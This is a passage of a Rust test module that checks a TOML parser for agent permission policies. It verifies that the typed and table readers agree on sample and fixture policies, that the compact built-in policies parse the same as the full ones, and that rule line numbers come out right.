                "redact".to_owned(),
                "name = \"x\"\n[redact]\nenabled = false\npatterns = [\"a+\"]".to_owned(),
            ),
            (
                "bad redact".to_owned(),
                "name = \"x\"\n[redact]\npatterns = [\"(\"]".to_owned(),
            ),
            (
                "approval wait".to_owned(),
                "name = \"x\"\n[approval]\nwait = \"90s\"".to_owned(),
            ),
            (
                "approval notify".to_owned(),
                "name = \"x\"\n[approval]\nwait = \"90s\"\n[approval.notify]\nurl_env = \"HOOK\"\nformat = \"ntfy\"\ntimeout = \"2s\"".to_owned(),
            ),
            (
                "bad approval notify".to_owned(),
                "name = \"x\"\n[approval.notify]\nurl = \"ftp://h/p\"".to_owned(),
            ),
            (
                "rule without id".to_owned(),
                "name = \"x\"\n[[rules]]\naction = \"deny\"\nreason = \"r\"".to_owned(),
            ),
        ];
        for folder in ["fixtures/policies", "fixtures/policies/invalid"] {
            let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(folder);
            for entry in std::fs::read_dir(dir).unwrap() {
                let path = entry.unwrap().path();
                if path.extension().is_some_and(|e| e == "toml") {
                    let text = std::fs::read_to_string(&path).unwrap();
                    texts.push((path.display().to_string(), text));
                }
            }
        }
        texts
    }

    #[test]
    fn the_carried_policies_take_the_typed_reader() {
        for text in [
            super::super::FLOOR_POLICY_TOML,
            super::super::DEFAULT_POLICY_TOML,
            super::super::CODING_AGENT_POLICY_TOML,
        ] {
            let lean = compiled_in_lean(text).expect("carried");
            assert!(read_typed(lean).is_some());
            assert!(read_typed(text).is_some());
        }
    }

    #[test]
    fn lean_texts_read_as_their_own() {
        let carried = [
            super::super::FLOOR_POLICY_TOML,
            super::super::DEFAULT_POLICY_TOML,
            super::super::CODING_AGENT_POLICY_TOML,
        ];
        for text in carried {
            let lean = compiled_in_lean(text).expect("carried");
            assert!(
                lean.len() * 2 < text.len(),
                "{} of {}",
                lean.len(),
                text.len()
            );
            let from_lean = parse_text(lean, text, "p", Checks::Deferred).unwrap();
            let from_text = parse_text(text, text, "p", Checks::Deferred).unwrap();
            assert!(!from_text.rules.is_empty());
            assert_eq!(format!("{from_lean:?}"), format!("{from_text:?}"));
        }
        let changed = format!("{}\n", super::super::DEFAULT_POLICY_TOML);
        assert_eq!(compiled_in_lean(&changed), None);
    }

    #[test]
    fn rule_lines_are_where_each_rule_begins() {
        let text = "name = \"p\"\n\n[[rules]]\n# why\nid = \"a\"\naction = \"allow\"\nreason = \"r\"\n\n[[rules]]\naction = \"deny\"\nid = 'b'\nreason = \"r\"\n";
        let lines = super::rule_lines(text);
        assert_eq!(lines.get("a"), Some(&3));
        assert_eq!(lines.get("b"), Some(&9));
        assert_eq!(lines.len(), 2);
        let inline = "name = 'p'\nrules = [\n  { id = 'x', action = 'deny', reason = 'r' },\n]\n";
        assert_eq!(super::rule_lines(inline).get("x"), Some(&3));
        assert!(super::rule_lines("not [toml").is_empty());
        assert!(super::rule_lines("rules = 3").is_empty());
    }

    #[test]
    fn the_typed_reader_reads_what_the_table_reader_reads_or_leaves_it_to_it() {
        let error = |problem: String| super::PolicyError::File {
            path: "p".into(),
            problem,
        };
        let mut typed = 0;
        for (name, text) in texts() {
            let table = read_table(&text, &error);
            match read_typed(&text) {
                Some(read) => {
                    typed += 1;
                    let table = table.unwrap_or_else(|e| panic!("{name}: {e}"));
                    assert_eq!(format!("{read:?}"), format!("{table:?}"), "{name}");
                }
                // Left to the table reader, which must find what is wrong:
                // in the file, or in one of its rules.
                None => assert!(
                    table.map_or(true, |(_, rules, _, _, _, _, _, _)| rules
                        .iter()
                        .any(|(_, r)| r.is_err())),
                    "{name}: only the table reader reads it"
                ),
            }
        }
        assert!(typed >= 6, "{typed}");
    }
}
